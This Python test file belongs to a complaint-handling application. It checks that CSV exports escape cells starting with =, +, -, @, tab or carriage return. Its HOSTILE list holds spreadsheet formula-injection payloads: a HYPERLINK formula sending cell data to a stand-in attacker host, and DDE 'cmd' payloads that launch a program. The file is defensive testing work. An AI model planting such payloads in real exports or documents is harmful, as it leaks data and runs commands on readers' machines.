"""Formula injection (issue 13, item 9): text in a CSV export never runs in a spreadsheet.

Excel, LibreOffice and Google Sheets read a cell that starts with = + - @ (or a tab or a
carriage return) as a formula. Whoever can type a text that ends up in an export (an action
point, the organisation's name, an audit detail; or a key holder who writes rows by hand)
must not get it run on the reader's PC. Each CSV is read back here as a spreadsheet reads it.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from sqlalchemy import select

from klachtdesk.domain.validation import ComplaintInput
from klachtdesk.reports import evaluation_csv
from klachtdesk.reports.csv_cells import figure_cell, text_cell
from klachtdesk.services import report
from klachtdesk.services.admin import admin_lists, settings
from klachtdesk.services.cases import cases
from klachtdesk.services.context import audit
from klachtdesk.services.safety import audit_log
from klachtdesk.storage.models import ActionPoint, AuditEntry
from tests.conftest import TODAY, complaint_data
from tests.unit.test_report import data_set  # noqa: F401 - the known evaluation data set

LINK = '=HYPERLINK("https://kwaadwillend.example/?d="&A1;"Klik hier")'
HOSTILE = [
    LINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# What a spreadsheet takes for a number (Dutch notation): it never evaluates these.
NUMBER = re.compile(r"[+-]?[0-9][0-9.]*(,[0-9]+)?%?")


def spreadsheet_view(cell: str) -> tuple[str, str]:
    """How a spreadsheet takes a cell: ('text', shown), ('number', cell) or ('formula', cell)."""
    if cell.startswith("'"):
        return "text", cell[1:]
    if NUMBER.fullmatch(cell):
        return "number", cell
    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return "formula", cell
    return "text", cell


def read_csv(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


def formulas(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if spreadsheet_view(cell)[0] == "formula"]


def test_the_helper_escapes_each_formula_start_and_leaves_numbers_and_text_alone():
    for value in HOSTILE:
        assert text_cell(value) == "'" + value
        assert figure_cell(value) == "'" + value
    for value in ("Lekkage", "", "KD-2026-0001", "'al tekst", "1+1", " =1"):
        assert text_cell(value) == value
    for value in ("-3", "+12", "0", "1.234", "-1.234,5", "87,5%", "+2,5", "–", ""):
        assert figure_cell(value) == value
    assert figure_cell("-3,6 %-punt") == "'-3,6 %-punt"  # no number: the spreadsheet errs
    assert text_cell("-3") == "'-3"  # typed text stays text, even when it looks like a number


def test_evaluation_csv_shows_formulas_typed_by_users_as_text(data_set, org, tmp_path):  # noqa: F811
    coordinator = org.coordinator
    settings.update_settings(org.beheer, {"org.name": LINK})
    for text in HOSTILE[:4]:
        report.add_action_point(coordinator, "2026H1", text, text)
    # Leading tabs and returns never pass the validation; a key holder writes them by hand.
    point = report.add_action_point(coordinator, "2026H1", "Wordt overschreven.", "Wonen")
    with org.beheer.db.session(write=True) as session:
        row = session.get(ActionPoint, point)
        row.description, row.owner = HOSTILE[4], HOSTILE[5]

    target = tmp_path / "evaluatie.csv"
    result = report.evaluation(coordinator, "2026H1")
    report.save_csv(coordinator, result, target)
    rows = read_csv(target.read_bytes())

    assert formulas(rows) == []
    assert rows[1] == ["Organisatie", "'" + LINK]
    points = rows[rows.index(["Actiepunt", "Verantwoordelijke", "Uiterlijk", "Stand"]) + 1 :]
    shown = [[spreadsheet_view(cell) for cell in row[:2]] for row in points]
    for text in HOSTILE[:4]:
        assert [("text", text), ("text", text)] in shown
    assert [("text", HOSTILE[4]), ("text", HOSTILE[5])] in shown
    # Figures stay numbers; a difference in percentage points is no number and shows as text.
    assert ["Ontvangen klachten", "Totaal ontvangen", "9", "4", "+5"] in rows
    differences = [row[4] for row in rows if len(row) == 5 and row[4].endswith("%-punt")]
    assert "'-3,6 %-punt" in differences
    assert all(spreadsheet_view(cell)[0] == "text" for cell in differences)
    assert rows == evaluation_csv.rows(result)  # what the window's tests read is what is saved


def test_a_category_or_department_named_as_a_formula_never_starts_a_cell(data_set, org):  # noqa: F811
    department = "@SUM(1+1)*cmd|' /C calc'!A0"
    admin_lists.add_category(org.beheer, LINK)
    admin_lists.add_department(org.beheer, department)
    data = complaint_data(received="2026-03-02", category=LINK, department=department)
    cases.register(org.balie, ComplaintInput.validated(data, TODAY))
    rows = evaluation_csv.rows(report.evaluation(org.coordinator, "2026H1"))
    assert formulas(rows) == []
    labels = [row[1] for row in rows if len(row) == 5]
    assert f"Per categorie – {LINK}" in labels
    assert f"Per afdeling – {department}" in labels


@pytest.fixture
def hostile_log(org):
    """Audit entries whose user-typed parts start with each formula character."""
    with org.beheer.db.session(write=True) as session:
        for text in HOSTILE:
            audit(session, org.beheer, "categorie_toegevoegd", text, text)
    return org


def test_audit_export_still_escapes_every_formula_start(hostile_log, tmp_path):
    ctx = hostile_log.beheer
    target = tmp_path / "auditlog.csv"
    audit_log.export_audit(ctx, None, target)
    rows = read_csv(target.read_bytes())
    assert formulas(rows) == []
    with ctx.db.session() as session:
        stored = {
            e.id: e for e in session.scalars(select(AuditEntry).where(AuditEntry.object_ref != ""))
        }
    hostile_rows = [row for row in rows[1:] if int(row[0]) in stored and row[3] != "Aangemeld"]
    by_text = {spreadsheet_view(row[4])[1]: row for row in hostile_rows}
    for text in HOSTILE:
        row = by_text[text]
        assert row[4] == row[5] == "'" + text  # object and detail: shown as text
        entry = stored[int(row[0])]
        assert (row[6], row[7]) == (entry.action, entry.hash)  # code and hash: as stored
